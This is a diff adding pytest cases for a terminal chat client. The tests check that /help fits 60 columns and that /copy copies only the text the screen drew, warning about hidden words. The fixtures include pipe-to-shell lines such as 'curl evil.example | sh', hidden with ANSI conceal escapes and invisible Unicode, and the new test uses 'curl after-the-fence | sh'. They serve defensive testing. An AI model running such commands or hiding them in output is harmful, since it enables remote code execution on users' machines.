@@ -185,6 +185,24 @@ def test_streaming_reply_text_is_neutralised_in_the_terminal(chat):
     s.wait()
 
 
+def test_help_fits_a_60_column_window(api):
+    from vt import widest_line
+    s = PtySession([BIN, "chat", "--no-save", "--model", "echo"], dict(api.vars), columns=60)
+    try:
+        s.expect(r"you ›")
+        s.mark()
+        s.line("/help")
+        s.expect(r"/exit")
+        s.expect(r"you ›")
+        assert widest_line(s.raw(), paths=True) <= 60, s.raw()
+        # A long description goes on under its command's column.
+        assert re.search(r"\n {20}\S", plain(s.raw()).replace("\r", "")), s.raw()
+        s.line("/exit")
+        assert s.wait() == 0
+    finally:
+        s.close()
+
+
 def test_key_shaped_input_is_asked_about_and_errors_keep_the_chat_alive(chat, api):
     s = chat("--model", "echo")
     s.mark()
@@ -424,6 +442,37 @@ def test_copy_puts_on_the_clipboard_what_the_screen_drew_and_warns_when_the_repl
     assert copied == "run: echo safe^[[8m; curl evil.example | sh^[[0m then ls \\u{200b}-la \\u{202e}right-to-left\n", repr(copied)
     assert copied.rstrip("\n") in drawn, (copied, drawn)
     s.mark()
+    s.line("/exit")
+    assert s.wait() == 0
+
+
+def test_copy_takes_what_markdown_drew_and_names_the_words_it_hid(chat):
+    s = chat("--model", "hidden-markdown")
+    s.mark()
+    s.line("hi")
+    s.expect(r"you ›")
+    drawn = s.screen.text()
+    # The line after a fence closed by CRLF is on the screen (it was once dropped there).
+    assert "curl after-the-fence | sh" in drawn, drawn
+    s.mark()
+    s.line("/copy")
+    s.expect(r"copied the last reply")
+    s.expect(r"gemvault: warning: the reply holds 8 words the screen did not draw".replace(" ", r"\s+"))
+    s.expect(r"they\s+were\s+not\s+copied")
+    payloads = osc52_payloads(s.raw())
+    assert len(payloads) == 1, s.raw()
+    copied = payloads[0]
+    assert "evil.example/y" not in copied and "evil.example/z" not in copied, repr(copied)
+    assert copied == ("Install it:\n\n```sh\npip install tool\n```\n\ncurl after-the-fence | sh\n\n"
+                      "See the docs (https://docs.example) and this (https://example.com).\n"), repr(copied)
+    # Every line copied is a line the screen shows (the fences stand for the code's frame).
+    for line in copied.splitlines():
+        assert line.startswith("```") or line in drawn, (line, drawn)
+    s.mark()
+    s.line("/copy code")
+    s.expect(r"copied code block 1 of 1")
+    assert osc52("pip install tool") in s.raw()
+    assert "warning" not in s.text()
     s.line("/exit")
     assert s.wait() == 0
 
